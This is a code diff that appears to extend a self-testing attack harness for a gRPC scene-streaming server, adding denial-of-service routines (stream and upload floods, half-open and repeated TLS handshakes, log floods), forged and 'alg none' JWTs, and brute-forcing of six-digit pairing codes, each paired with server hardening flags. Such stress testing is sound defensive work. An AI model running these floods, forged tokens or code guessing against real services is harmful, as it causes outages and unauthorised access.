@@ -20,6 +20,7 @@
 #include <fmt/format.h>
 #include <grpcpp/client_context.h>
 #include <netinet/in.h>
+#include <openssl/ssl.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
@@ -125,6 +126,12 @@ v1::ClientMessage helloTo(const std::string& scene) {
   message.mutable_hello()->set_scene(scene);
   for (const std::uint32_t codec : {1u, 2u, 3u}) message.mutable_hello()->add_codecs(codec);
   return message;
+}
+
+v1::ClientMessage windOf(float x) {
+  v1::ClientMessage change;
+  change.mutable_parameter_change()->mutable_wind()->mutable_value()->set_x(x);
+  return change;
 }
 
 // A stream whose answers a thread reads.
@@ -470,6 +477,147 @@ std::string slowReaders(const Target& target) {
   return "30 streams that nobody reads";
 }
 
+// Streams that send one message again and again, and never say hello. Returns how many are open at the end.
+std::string floodWithoutHello(const Target& target, int count,
+                              const std::function<v1::ClientMessage(int)>& message,
+                              std::chrono::milliseconds pause) {
+  const auto stub = stubOf(target);
+  struct Stream {
+    grpc::ClientContext context;
+    std::unique_ptr<grpc::ClientReaderWriter<v1::ClientMessage, v1::ServerMessage>> stream;
+    std::atomic<bool> ended{false};
+    std::jthread reader;
+  };
+  std::vector<std::unique_ptr<Stream>> streams;
+  for (int i = 0; i < count; ++i) {
+    Stream& each = *streams.emplace_back(std::make_unique<Stream>());
+    each.stream = stub->Join(&each.context);
+    each.reader = std::jthread([&each] {
+      v1::ServerMessage answer;
+      while (each.stream->Read(&answer)) {
+      }
+      each.ended = true;
+    });
+  }
+  int round = 0;
+  repeat(target, [&] {
+    for (const auto& each : streams)
+      if (!each->ended) each->stream->Write(message(round));
+    ++round;
+    std::this_thread::sleep_for(pause);
+  });
+  const auto open = std::ranges::count_if(streams, [](const auto& each) { return !each->ended; });
+  for (const auto& each : streams) each->context.TryCancel();
+  streams.clear();
+  return fmt::format("{} of {} streams are open after {} s", open, count, target.time.count());
+}
+
+std::string pingWithoutHello(const Target& target) {
+  return floodWithoutHello(
+      target, 30,
+      [](int) {
+        v1::ClientMessage message;
+        message.mutable_ping()->set_client_time_us(1);
+        return message;
+      },
+      std::chrono::milliseconds(100));
+}
+
+std::string uploadSlowly(const Target& target) {
+  constexpr std::uint32_t kPieces = 1000;
+  const std::string first(kPieceBytes, '\xff');
+  std::string answer = floodWithoutHello(
+      target, 30,
+      [&](int round) {
+        v1::ClientMessage message;
+        v1::Chunk& chunk = *message.mutable_upload();
+        chunk.set_content_id(1);
+        chunk.set_kind(v1::CONTENT_KIND_SCENE);
+        chunk.set_index(static_cast<std::uint32_t>(round));
+        chunk.set_count(kPieces);
+        chunk.set_total_bytes(2 * kPieceBytes);
+        chunk.set_data(round == 0 ? first : "x");
+        return message;
+      },
+      std::chrono::milliseconds(200));
+  // An honest upload needs the room that the slow ones held.
+  const std::string honest = upload(*stubOf(target), sheet("honest", 8, 4).SerializeAsString());
+  return answer + "; an honest upload: " + honest;
+}
+
+// Changes of parameters while other participants of the scene do not read.
+std::string changeForUnreading(const Target& target) {
+  const auto stub = stubOf(target);
+  std::vector<std::unique_ptr<Joined>> readers, silent;
+  for (int i = 0; i < kFlooders; ++i) readers.push_back(std::make_unique<Joined>(*stub, ""));
+  for (int i = 0; i < kFlooders; ++i) silent.push_back(std::make_unique<Joined>(*stub, "", false));
+  const std::uint64_t sent = flood(target, [&](int i) {
+    readers[i]->send(windOf(0.01f));
+    std::this_thread::sleep_for(std::chrono::milliseconds(20));
+  });
+  const auto open = std::ranges::count_if(readers, [](const auto& each) { return each->open(); });
+  return fmt::format("{} changes sent; {} of {} streams that read stay open", sent, open, readers.size());
+}
+
+// Colliders of many participants in the victim's own scene.
+std::string fillWithColliders(const Target& target) {
+  const auto stub = stubOf(target);
+  std::vector<std::unique_ptr<Joined>> joined;
+  for (int i = 0; i < 40; ++i) joined.push_back(std::make_unique<Joined>(*stub, "flag"));
+  v1::ClientMessage poses;
+  for (std::uint32_t id = 1; id <= 60; ++id) {
+    v1::ParticipantCollider& pose = *poses.mutable_collider_poses()->add_colliders();
+    pose.set_id(id);
+    pose.mutable_pose()->mutable_position()->set_y(0.01f * static_cast<float>(id));
+    pose.mutable_pose()->mutable_orientation()->set_w(1);
+    pose.mutable_sphere()->set_radius(0.05f);
+  }
+  repeat(target, [&] {
+    for (const auto& each : joined) each->send(poses);
+    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+  });
+  std::string error;
+  for (const auto& each : joined)
+    if (error.empty()) error = each->lastError();
+  return error.empty() ? "accepted" : "refused: " + brief(error);
+}
+
+// Lines of the log: each join and each end of a stream is one.
+std::string floodLog(const Target& target) {
+  std::vector<std::unique_ptr<Stub>> stubs;
+  for (int i = 0; i < kFlooders; ++i) stubs.push_back(stubOf(target));
+  const std::uint64_t joins = flood(target, [&](int i) { const Joined joined(*stubs[i], "flag"); });
+  return fmt::format("{} joins", joins);
+}
+
+// ---- TLS
+
+// The first bytes of a TLS record with a ClientHello that never ends.
+std::string halfHandshakes(const Target& target) {
+  const std::string begin("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
+  const std::string web =
+      holdConnections({target.grpc, target.web, target.time / 2}, target.web, 1000, begin);
+  return web +
+         "; gRPC: " + holdConnections({target.grpc, target.web, target.time / 2}, target.grpc, 1000, begin);
+}
+
+std::string floodHandshakes(const Target& target) {
+  const std::unique_ptr<SSL_CTX, decltype(&SSL_CTX_free)> context(SSL_CTX_new(TLS_client_method()),
+                                                                  &SSL_CTX_free);
+  std::atomic<std::uint64_t> complete = 0;
+  const std::uint64_t tried = flood(target, [&](int i) {
+    const int file = connectTo(i % 2 == 0 ? target.web : target.grpc);
+    if (file < 0) return;
+    const std::unique_ptr<SSL, decltype(&SSL_free)> tls(SSL_new(context.get()), &SSL_free);
+    SSL_set_fd(tls.get(), file);
+    if (SSL_connect(tls.get()) == 1) ++complete;
+    ::close(file);
+  });
+  return fmt::format("{} of {} handshakes completed", complete.load(), tried);
+}
+
+// ----
+
 std::string rebinding(const Target& target) {
   const int file = connectTo(target.web);
   const std::string request =
@@ -482,6 +630,66 @@ std::string rebinding(const Target& target) {
   ::close(file);
   answer.resize(static_cast<std::size_t>(std::max<ssize_t>(got, 0)));
   return answer.substr(0, answer.find('\r'));
+}
+
+// A token of the right key name, algorithm and claims, whose signature is wrong: the most expensive refusal.
+std::string forgedToken() {
+  const std::string header = "eyJhbGciOiJFUzI1NiIsImtpZCI6ImF0dGFjayIsInR5cCI6IkpXVCJ9";
+  const std::string claims =
+      "eyJhdWQiOiJjbG90aHN0cmVhbSIsImV4cCI6NDEwMjQ0NDgwMCwicm9sZSI6Im93bmVyIiwic3ViIjoiZXZlIn0";
+  const std::string signature =
+      "AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4_QA";
+  return header + '.' + claims + '.' + signature;
+}
+
+std::string wrongTokens(const Target& target) {
+  const std::array<std::string, 3> tokens{forgedToken(), std::string(4000, 'A'), "eyJhbGciOiJub25lIn0.e30."};
+  std::array<std::unique_ptr<Stub>, kFlooders> stubs;
+  for (auto& stub : stubs) stub = stubOf(target);
+  std::mutex mutex;
+  Answers answers;
+  std::atomic<std::size_t> next = 0;
+  flood(target, [&](int i) {
+    grpc::ClientContext context;
+    context.AddMetadata("authorization", "Bearer " + tokens[next++ % tokens.size()]);
+    v1::ListScenesResponse response;
+    const grpc::Status status = stubs[static_cast<std::size_t>(i)]->ListScenes(&context, {}, &response);
+    const std::lock_guard lock(mutex);
+    answers.add(status);
+  });
+  // The same in streams.
+  const auto end = Clock::now() + target.time;
+  for (std::size_t i = 0; Clock::now() < end; ++i) {
+    grpc::ClientContext context;
+    const auto stream = stubs[i % stubs.size()]->Join(&context);
+    v1::ClientMessage message;
+    message.mutable_authenticate()->set_token(tokens[i % tokens.size()]);
+    stream->Write(message);
+    v1::ServerMessage answer;
+    while (stream->Read(&answer)) {
+    }
+    answers.add(stream->Finish());
+  }
+  return answers.text();
+}
+
+std::string wrongCodes(const Target& target) {
+  std::array<std::unique_ptr<Stub>, kFlooders> stubs;
+  for (auto& stub : stubs) stub = stubOf(target);
+  std::mutex mutex;
+  Answers answers;
+  std::atomic<int> next = 0;
+  flood(target, [&](int i) {
+    grpc::ClientContext context;
+    v1::AuthenticateRequest request;
+    request.set_pairing_code(fmt::format("{:06}", next++ % 1'000'000));
+    v1::AuthenticateResponse response;
+    const grpc::Status status =
+        stubs[static_cast<std::size_t>(i)]->Authenticate(&context, request, &response);
+    const std::lock_guard lock(mutex);
+    answers.add(status);
+  });
+  return answers.text();
 }
 
 constexpr Attack kAttacks[] = {
@@ -499,12 +707,26 @@ constexpr Attack kAttacks[] = {
     {"poses", "send 60 colliders from eight streams without end", &floodPoses},
     {"get_scene", "ask for a scene from eight connections without end", &floodGetScene},
     {"recordings", "start and stop recordings of the victim's scene without end", &floodRecordings,
-     "--recordings"},
+     "--recordings DIRECTORY"},
     {"idle_grpc", "hold 3,000 silent connections to gRPC", &idleGrpc},
     {"idle_web", "hold 3,000 silent connections to the page", &idleWeb},
     {"half_requests", "hold 1,000 requests that never end", &halfRequests},
     {"slow_readers", "join the victim's scene 30 times and read nothing", &slowReaders},
+    {"pings_without_hello", "hold 30 streams open with pings and without hello", &pingWithoutHello,
+     "--hello-timeout 2"},
+    {"slow_uploads", "begin 30 uploads and continue them a byte at a time", &uploadSlowly,
+     "--max-upload-memory 2 --min-upload-rate 1000 --max-upload-time 3"},
+    {"unread_changes", "change parameters of the victim's scene next to participants that do not read",
+     &changeForUnreading},
+    {"colliders", "join a scene with 40 participants of 60 colliders", &fillWithColliders},
+    {"log_flood", "join and leave without end, with a log", &floodLog, "--log-level info --log-rate 50"},
+    {"half_handshakes", "hold 2,000 TLS handshakes that never end", &halfHandshakes,
+     "--tls self --state-dir DIRECTORY"},
+    {"handshakes", "complete TLS handshakes without end", &floodHandshakes,
+     "--tls self --state-dir DIRECTORY"},
     {"dns_rebinding", "open a WebSocket as a page of another name", &rebinding},
+    {"wrong_tokens", "send forged tokens in calls and streams without end", &wrongTokens, "", Access::tokens},
+    {"wrong_codes", "guess pairing codes without end", &wrongCodes, "", Access::pairing},
 };
 
 }  // namespace
